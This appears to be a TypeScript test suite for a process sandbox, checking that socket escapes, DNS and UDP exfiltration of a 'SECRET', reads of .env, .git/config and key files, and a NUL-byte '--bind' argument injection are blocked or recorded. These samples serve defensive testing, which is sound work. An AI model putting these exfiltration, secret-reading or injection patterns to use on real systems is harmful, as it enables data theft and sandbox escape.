/** Ways around the record and out of the jail that were found by trying: each stays closed. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { test } from "node:test";
import { type EgressEvent, type SandboxEvent, type SandboxOptions, start } from "../../src/sandbox/index.ts";
import { temporaryFolder } from "../kit/paths.ts";
import { fixtures } from "./kit.ts";

const timeout = 60_000;

async function run(
  command: string,
  args: readonly string[],
  options: SandboxOptions = {},
): Promise<{ events: readonly SandboxEvent[]; output: string; egress: EgressEvent[] }> {
  const running = await start({ command, args }, options);
  const parts: Buffer[] = [];
  running.stdio.stdout.on("data", (part: Buffer) => parts.push(part));
  running.stdio.stdin.end();
  await running.exited;
  const { events } = running;
  const egress = events.filter((event): event is EgressEvent => event.kind === "egress");
  return { events, output: Buffer.concat(parts).toString(), egress };
}
const sent = ({ firstBytes }: EgressEvent): string => Buffer.from(firstBytes, "base64").toString("latin1");
const node = (script: string, options?: SandboxOptions) => run(process.execPath, ["-e", script], options);

test("sockets and pipes in a folder that it sees lead nowhere, also those made later", {
  timeout,
}, async () => {
  using folder = temporaryFolder();
  const hits: string[] = [];
  const listen = (name: string): Promise<void> =>
    new Promise((done) => {
      const server = createServer(() => hits.push(name));
      server.listen(join(folder.path, name), done).unref();
    });
  await listen("early");
  execFileSync("mkfifo", [join(folder.path, "pipe")]);
  const script = `
    const net = require("net"), fs = require("fs");
    const tell = (name) => new Promise((done) => {
      const socket = net.connect("${folder.path}/" + name, () => done(name + " connected"));
      socket.on("error", (fault) => done(name + " " + fault.code));
    });
    setTimeout(async () => {
      console.log(await tell("early"), await tell("late"));
      try { fs.openSync("${folder.path}/pipe", fs.constants.O_WRONLY | fs.constants.O_NONBLOCK); console.log("pipe open"); }
      catch (fault) { console.log("pipe", fault.code); }
      process.exit(0);
    }, 600);`;
  const ran = node(script, { exposed: [folder.path] });
  await new Promise((done) => setTimeout(done, 300));
  await listen("late");
  const { output } = await ran;
  assert.deepEqual(hits, []);
  assert.match(output, /early ECONNREFUSED late (?:ECONNREFUSED|ENOENT)\npipe ENXIO/);
});

test("connections made right before the end are all told", { timeout }, async () => {
  const script = "for i in $(seq 1 200); do exec 3<>/dev/tcp/203.0.113.1/$((4000 + i)); echo $i >&3; done";
  const { egress, events } = await run("bash", ["-c", script]);
  assert.equal(new Set(egress.map(({ port }) => port)).size, 200);
  assert.deepEqual(
    events.filter(({ kind }) => kind === "gap"),
    [],
  );
});

test("what is said to a resolver beside queries is told [BOX-6]", { timeout }, async () => {
  const script = `
    const socket = require("net").connect(53, "203.0.113.9", () => {
      const question = Buffer.from("12340100000100000000000001610765786d61706c65" + "0000010001", "hex");
      const length = Buffer.alloc(2); length.writeUInt16BE(question.length);
      socket.write(Buffer.concat([length, question]));
      socket.once("data", () => { socket.write("a long SECRET that is no query"); setTimeout(() => process.exit(0), 200); });
    });
    setTimeout(() => process.exit(1), 5000);`;
  const { egress, events } = await node(script);
  assert.equal(
    events.some(({ kind }) => kind === "dns"),
    true,
    "the query itself",
  );
  assert.deepEqual(
    egress.map((event) => [event.address, event.port, sent(event).includes("SECRET")]),
    [["203.0.113.9", 53, true]],
  );
});

test("datagrams of one socket to two places are told apart", { timeout }, async () => {
  const script = `
    const socket = require("dgram").createSocket("udp4");
    socket.bind(5353, () => socket.send("harmless", 9999, "203.0.113.5", () =>
      socket.send("SECRET", 53, "198.51.100.66", () => setTimeout(() => process.exit(0), 100))));`;
  const allowed = [{ host: "203.0.113.5", port: 9999, by: "operator" }] as const;
  const { egress } = await node(script, { allowed });
  assert.deepEqual(egress.map((event) => [event.address, event.verdict, sent(event)]).sort(), [
    ["198.51.100.66", "overreach", "SECRET"],
    ["203.0.113.5", "permitted", "harmless"],
  ]);
});

test("memory that no process shows as its own counts", { timeout }, async () => {
  using folder = temporaryFolder();
  const program = join(folder.path, "hoard");
  execFileSync("gcc", ["-O1", "-Wall", "-Werror", "-o", program, join(fixtures, "hoard.c")]);
  const { events } = await run(program, [], { limits: { memoryMiB: 300 } });
  assert.equal(events.find((event) => event.kind === "limit")?.limit, "memory");
});

test("when the sandbox itself is killed, that is a gap [BOX-11]", { timeout }, async () => {
  const running = await start({ command: "sleep", args: ["30"] });
  process.kill(-(running.pid ?? 0), "SIGKILL");
  await running.exited;
  const gaps = running.events.flatMap((event) => (event.kind === "gap" ? [event.reason] : []));
  assert.match(gaps.join(), /ended early/);
});

test("a project is seen without its secrets, and a home not at all", { timeout }, async () => {
  using folder = temporaryFolder();
  const project = join(folder.path, "project");
  mkdirSync(join(project, ".git"), { recursive: true });
  for (const [name, text] of Object.entries({
    "package.json": "{}",
    ".env": "TOKEN=of-this-machine",
    ".git/config": "url = https://token@host",
    "server.pem": "key",
    "data.txt": "fine",
    "server.cjs": `
      const fs = require("fs");
      for (const name of [".env", ".git/config", "server.pem", "data.txt"]) {
        try { console.log(name, fs.readFileSync(__dirname + "/" + name, "utf8").length); }
        catch (fault) { console.log(name, fault.code); }
      }`,
  }))
    writeFileSync(join(project, name), text);
  const { output } = await run(process.execPath, [join(project, "server.cjs")]);
  assert.equal(output, ".env 0\n.git/config ENOENT\nserver.pem 0\ndata.txt 4\n");
});

test("a NUL byte in a word or variable is refused, since it would part options", { timeout }, async () => {
  const outside = { command: "true", args: [], env: { A: "x\0--bind\0/\0/run" } };
  await assert.rejects(start(outside), /NUL/);
  await assert.rejects(start({ command: "true", args: ["a\0b"] }), /NUL/);
});

test("the resolver of the sandbox can be asked over TCP", { timeout }, async () => {
  const script = `
    const socket = require("net").connect(53, "10.0.2.3", () => { console.log("connected"); socket.destroy(); });
    socket.on("error", (fault) => console.log(fault.code));`;
  assert.equal((await node(script)).output, "connected\n");
});
